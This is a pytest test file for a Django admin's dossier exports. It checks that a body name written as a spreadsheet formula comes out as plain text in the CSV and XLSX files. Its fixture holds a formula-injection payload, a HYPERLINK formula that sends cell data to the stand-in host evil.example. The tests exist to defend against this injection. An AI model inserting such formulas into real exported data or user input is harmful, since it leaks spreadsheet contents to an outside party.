"""Admin exports of the dossiers: a body name typed as a spreadsheet formula stays plain text."""

import csv
import io

import pytest
from django.urls import reverse

from candidatures.tests.jury_fixtures import *  # noqa: F403
from candidatures.tests.jury_fixtures import make_candidature

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def export(client, fmt):
    response = client.get(reverse("wagtailsnippets_candidatures_candidature:list"), {"export": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    return content.decode() if fmt == "csv" else content


def test_csv_export_neutralises_a_formula_in_a_body_name(client, edition, people):
    make_candidature(edition, people["applicant"], name=FORMULA)
    make_candidature(edition, people["applicant"], name="+33 Commune Plus")
    client.force_login(people["staff"])
    cells = [cell for row in csv.reader(io.StringIO(export(client, "csv"))) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'" + FORMULA in cells
    assert "'+33 Commune Plus" in cells


def test_xlsx_export_keeps_a_formula_as_text(client, edition, people):
    from openpyxl import load_workbook

    make_candidature(edition, people["applicant"], name=FORMULA)
    client.force_login(people["staff"])
    sheet = load_workbook(io.BytesIO(export(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells, "the body name is exported"
    assert all(cell.data_type == "s" for cell in cells)
